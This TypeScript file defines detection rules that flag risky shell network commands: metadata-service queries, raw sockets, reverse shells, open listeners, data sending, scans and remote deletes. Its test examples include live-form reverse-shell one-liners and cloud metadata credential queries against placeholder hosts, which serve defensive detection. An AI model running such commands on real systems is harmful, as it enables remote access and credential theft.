// Flags connections: to metadata services, to anybody, from anybody, or unchecked; covers fetching.
import { allowRule, rule } from '../../../core/rule.ts'
import type { Effect } from '../../read/run.ts'

export const askMetadataService = rule({
  id: 'shell.network.metadata',
  severity: 'high',
  category: 'security',
  evidence: 'A',
  source: 'AWS: Instance metadata, CWE-918',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Do not ask the metadata service.',
  fires: [
    'curl http://169.254.169.254/opc/v2/instance/',
    'wget -qO- http://metadata.google.internal/computeMetadata/v1/',
  ],
  quiet: ['curl http://192.0.2.4/latest', 'wget -qO- http://example.net/'],
})

export const openRawConnection = rule({
  id: 'shell.network.socket',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'nc(1), bash(1) /dev/tcp',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Use a tool made for the transfer.',
  fires: ['nc 192.0.2.9 4000', 'echo hi > /dev/tcp/192.0.2.9/80'],
  quiet: ['nc -z 192.0.2.9 443', 'ping -c 1 192.0.2.9'],
})

export const connectShell = rule({
  id: 'shell.network.reverse_shell',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'MITRE ATT&CK T1059.004',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Do not bind a shell to a connection.',
  fires: ['bash -i >& /dev/tcp/192.0.2.9/443 0>&1', 'nc -e /bin/sh 192.0.2.9 443'],
  quiet: ['nc -z 192.0.2.9 443', "bash -c 'ls'"],
})

export const listenForAnybody = rule({
  id: 'shell.network.listen',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'nc(1) -l',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Bind it to 127.0.0.1.',
  fires: ['nc -l 4000', 'socat TCP-LISTEN:4000 STDOUT'],
  quiet: ['ss -ltn', 'nc -z localhost 4000'],
})

export const serveToNetwork = rule({
  id: 'shell.network.serve',
  severity: 'medium',
  category: 'security',
  evidence: 'B',
  source: 'Python: http.server; ngrok http',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Bind it to 127.0.0.1.',
  alternative: 'python -m http.server --bind 127.0.0.1',
  fires: ['python3 -m http.server 8000', 'ngrok http 8000'],
  quiet: ['curl http://localhost:8000', 'ss -ltn'],
})

export const sendData = rule({
  id: 'shell.network.send',
  severity: 'medium',
  category: 'security',
  evidence: 'B',
  source: 'curl(1) --data, mail(1)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Check what is sent, and to whom.',
  fires: ['curl -d status=ok https://hooks.example.net/x', 'mail -s report ops@example.net'],
  quiet: ['curl https://hooks.example.net/x', 'curl -d a=b http://localhost:3000/x'],
})

export const skipCertificateCheck = rule({
  id: 'shell.network.insecure',
  severity: 'medium',
  category: 'security',
  evidence: 'A',
  source: 'curl(1) -k, CWE-295',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Leave the certificate check on.',
  fires: ['curl -k https://api.example.net', 'wget --no-check-certificate https://api.example.net/a'],
  quiet: ['curl https://api.example.net', 'wget https://api.example.net/a'],
})

export const scanHosts = rule({
  id: 'shell.network.scan',
  severity: 'medium',
  category: 'security',
  evidence: 'B',
  source: 'nmap(1), tcpdump(1)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Get the permission of the owner first.',
  fires: ['nmap 192.0.2.0/24', 'tcpdump -i eth0'],
  quiet: ['ping -c 1 192.0.2.9', 'tcpdump -r trace.pcap'],
})

export const fetchFiles = rule({
  id: 'shell.network.transfer',
  severity: 'medium',
  category: 'security',
  evidence: 'B',
  source: 'scp(1) -r, certutil (Microsoft Learn)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Check the source, and use a tool made for downloads.',
  fires: ['scp -r files.example.net:/out .', 'bitsadmin /transfer j https://x.example.net/a.zip a.zip'],
  quiet: ['ls out', 'scp files.example.net:/out/a.csv a.csv'],
})

export const deleteOverNetwork = rule({
  id: 'shell.network.delete',
  severity: 'high',
  category: 'safety',
  evidence: 'B',
  source: 'RFC 9110 §9.3.5',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Check what is deleted.',
  fires: [
    'curl -X DELETE https://api.example.net/items/3',
    'curl --request DELETE https://api.example.net/users/9',
  ],
  quiet: ['curl https://api.example.net/items/3', 'curl -I https://api.example.net/items/3'],
})

export const fetchDocument = allowRule({
  id: 'shell.pos.fetch',
  evidence: 'B',
  source: 'curl(1), wget(1)',
  fires: ['curl https://api.example.net/v1/status', 'wget https://example.net/a.tgz'],
  quiet: ['ls', 'cat a.tgz'],
})

/** All interfaces of the host. */
export const EVERY_INTERFACE =
  /^(?:(?:--?(?:host|bind|address|addr|listen|ip)(?:=|$))?(?:0\.0\.0\.0|::|\[::\])(?::\d+)?|--host)$/
